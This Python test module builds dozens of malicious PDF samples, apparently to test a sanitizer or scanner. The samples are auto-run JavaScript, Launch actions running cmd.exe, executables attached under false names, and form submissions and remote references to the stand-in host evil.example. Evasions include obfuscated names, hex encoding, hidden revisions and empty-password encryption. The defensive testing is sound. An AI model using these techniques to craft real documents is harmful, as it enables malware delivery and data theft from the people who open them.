"""PDF files that run, open, send or carry something."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

import pikepdf

from tests.attacks.attack import Attack
from tests.attacks.macros import ACTIVE
from tests.attacks.ole import PROGRAM
from tests.attacks.pdf_builder import pdf, stream, updated

PDF = "application/pdf"
SCRIPT = "<< /S /JavaScript /JS (app.launchURL\\('http://evil.example'\\)) >>"
WIDGET = "<< /Type /Annot /Subtype /Widget /FT /Btn /T (nut) /Rect [0 0 9 9] "


def _annotated(annotation: str, *more: bytes | str) -> bytes:
    """A page with one annotation, which is object 6."""
    return pdf(objects=[annotation, *more], page="/Annots [6 0 R]")


def _attached(name: str, content: bytes, *, catalog: bool = True) -> bytes:
    file = f"<< /Type /Filespec /F ({name}) /UF ({name}) /EF << /F 7 0 R >> >>"
    where = f"/Names << /EmbeddedFiles << /Names [({name}) 6 0 R] >> >>" if catalog else ""
    return pdf(where, [file, stream(zlib.compress(content), "/Type /EmbeddedFile /Filter /FlateDecode")])


def _encrypted() -> bytes:
    """Encrypted with an empty password: every reader opens it without asking."""
    document = pikepdf.open(io.BytesIO(pdf(f"/OpenAction {SCRIPT}")))
    out = io.BytesIO()
    document.save(out, encryption=pikepdf.Encryption(owner="chu", user="", R=4), deterministic_id=False, static_id=True)
    return out.getvalue()


def _hidden_by_update() -> bytes:
    """The script stands in the first revision only, which readers show when asked for it."""
    return updated(pdf(f"/OpenAction {SCRIPT}"), {1: "<< /Type /Catalog /Pages 2 0 R >>"})


def _attack(name: str, make: Callable[[], bytes], file_name: str = "cong van.pdf") -> Attack:
    return Attack(name, "pdf", file_name, PDF, make, ACTIVE)


_OBFUSCATED = "/Open#41ction << /#53 /J#61va#53cript /#4a#53 (app.alert\\(1\\)) >>"
_HEX = "/OpenAction << /S /JavaScript /JS <6170702e616c6572742831293b> >>"
_CHAIN = "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Named /N /Print >> << /S /JavaScript /JS (x) >>] >>"

ATTACKS: tuple[Attack, ...] = (
    _attack("pdf-script-on-opening", lambda: pdf(f"/OpenAction {SCRIPT}")),
    _attack("pdf-script-with-escaped-names", lambda: pdf(_OBFUSCATED)),
    _attack("pdf-script-in-hex", lambda: pdf(_HEX)),
    _attack(
        "pdf-script-in-stream", lambda: pdf("/OpenAction << /S /JavaScript /JS 6 0 R >>", [stream(b"app.alert(1)")])
    ),
    _attack("pdf-script-in-name-tree", lambda: pdf("/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", [SCRIPT])),
    _attack("pdf-script-in-object-stream", lambda: pdf("/OpenAction 6 0 R", packed=[SCRIPT])),
    _attack(
        "pdf-script-in-update", lambda: updated(pdf(), {1: f"<< /Type /Catalog /Pages 2 0 R /OpenAction {SCRIPT} >>"})
    ),
    _attack("pdf-script-in-earlier-revision", _hidden_by_update),
    _attack("pdf-script-after-other-actions", lambda: pdf(_CHAIN)),
    _attack("pdf-script-on-turning-page", lambda: pdf(page=f"/AA << /O {SCRIPT} >>")),
    _attack("pdf-script-on-closing", lambda: pdf(f"/AA << /WC {SCRIPT} >>")),
    _attack("pdf-script-in-annotation", lambda: _annotated(f"{WIDGET} /AA << /Fo {SCRIPT} >> >>")),
    _attack(
        "pdf-script-in-field",
        lambda: pdf("/AcroForm << /Fields [6 0 R] >>", [f"<< /FT /Tx /T (o) /AA << /K {SCRIPT} /C {SCRIPT} >> >>"]),
    ),
    _attack(
        "pdf-script-formatting-a-field",
        lambda: pdf(
            "/AcroForm << /Fields [6 0 R] >>",
            ['<< /FT /Tx /T (ngay) /AA << /F << /S /JavaScript /JS (AFDate_FormatEx\\("dd/mm/yyyy"\\);) >> >> >>'],
        ),
    ),
    _attack(
        "pdf-script-in-bookmark",
        lambda: pdf(
            "/Outlines 6 0 R",
            ["<< /First 7 0 R /Last 7 0 R /Count 1 >>", f"<< /Title (1) /Parent 6 0 R /A {SCRIPT} >>"],
        ),
    ),
    _attack("pdf-script-in-unused-object", lambda: pdf(objects=[SCRIPT])),
    _attack("pdf-script-behind-broken-table", lambda: pdf(f"/OpenAction {SCRIPT}", damaged=True)),
    _attack("pdf-script-behind-junk", lambda: pdf(f"/OpenAction {SCRIPT}", head=b"\xef\xbb\xbf\r\n  ")),
    _attack("pdf-script-under-empty-password", _encrypted),
    _attack(
        "pdf-script-as-link",
        lambda: _annotated(
            "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>"
        ),
    ),
    _attack("pdf-launch", lambda: pdf("/OpenAction << /S /Launch /F (cmd.exe) >>")),
    _attack(
        "pdf-launch-for-windows", lambda: pdf("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>")
    ),
    _attack(
        "pdf-launch-with-escaped-names",
        lambda: pdf("/OpenAction << /S /#4c#61unch /F (\\\\\\\\evil.example\\\\a\\\\b.exe) >>"),
    ),
    _attack(
        "pdf-launch-by-link",
        lambda: _annotated("<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (setup.exe) >> >>"),
    ),
    _attack("pdf-launch-document-on-opening", lambda: pdf("/OpenAction << /S /Launch /F (phu luc.docm) >>")),
    _attack("pdf-attached-program", lambda: _attached("phu luc.exe", PROGRAM)),
    _attack("pdf-attached-program-under-another-name", lambda: _attached("phu luc.pdf", PROGRAM)),
    _attack("pdf-attached-document", lambda: _attached("phu luc.docx", b"khong phai docx")),
    _attack("pdf-attached-without-name-tree", lambda: _attached("phu luc.xlsx", b"123", catalog=False)),
    _attack(
        "pdf-attached-to-page",
        lambda: _annotated(
            "<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.vbs) /EF << /F 7 0 R >> >> >>",
            stream(b"CreateObject", "/Type /EmbeddedFile"),
        ),
    ),
    _attack("pdf-attached-stream-alone", lambda: pdf(objects=[stream(PROGRAM, "/Type /EmbeddedFile")])),
    _attack("pdf-portfolio", lambda: pdf("/Collection << /View /T >>")),
    _attack(
        "pdf-xfa",
        lambda: pdf(
            "/AcroForm << /Fields [] /XFA 6 0 R >>", [stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")]
        ),
    ),
    _attack(
        "pdf-submit",
        lambda: _annotated(f"{WIDGET} /A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >> >>"),
    ),
    _attack(
        "pdf-import", lambda: _annotated(f"{WIDGET} /A << /S /ImportData /F (\\\\\\\\evil.example\\\\a.fdf) >> >>")
    ),
    _attack("pdf-address-on-opening", lambda: pdf("/OpenAction << /S /URI /URI (http://evil.example/) >>")),
    _attack("pdf-address-on-turning-page", lambda: pdf(page="/AA << /O << /S /URI /URI (http://evil.example/) >> >>")),
    _attack(
        "pdf-share-on-turning-page",
        lambda: pdf(page="/AA << /O << /S /GoToR /D [0 /Fit] /F (\\\\\\\\evil.example\\\\a.pdf) >> >>"),
    ),
    _attack(
        "pdf-share-by-link",
        lambda: _annotated(
            "<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /D [0 /Fit] /F (\\\\\\\\evil.example\\\\a.pdf) >> >>"
        ),
    ),
    _attack(
        "pdf-goto-attached",
        lambda: _annotated(
            "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToE /T << /R /C /N (a.pdf) >> >> >>"
        ),
    ),
    _attack(
        "pdf-content-from-address",
        lambda: pdf(objects=[stream(b"", "/F << /FS /URL /F (http://evil.example/a) >> /FFilter /FlateDecode")]),
    ),
    _attack(
        "pdf-page-from-another-file",
        lambda: pdf(
            objects=[
                stream(b"", "/Subtype /Form /BBox [0 0 9 9] /Ref << /F (\\\\\\\\evil.example\\\\a.pdf) /Page 0 >>")
            ]
        ),
    ),
    _attack(
        "pdf-rich-media",
        lambda: _annotated("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>"),
    ),
    _attack(
        "pdf-movie", lambda: _annotated("<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (a.avi) >> >>")
    ),
    _attack(
        "pdf-sound",
        lambda: _annotated(
            "<< /Type /Annot /Subtype /Sound /Rect [0 0 9 9] /Sound 7 0 R >>", stream(b"\0\1", "/R 8000")
        ),
    ),
    _attack(
        "pdf-model",
        lambda: _annotated(
            "<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD 7 0 R >>", stream(b"U3D", "/Type /3D /Subtype /U3D")
        ),
    ),
    _attack(
        "pdf-rendition",
        lambda: pdf(
            "/OpenAction << /S /Rendition /OP 0 /AN 6 0 R >>", ["<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>"]
        ),
    ),
)
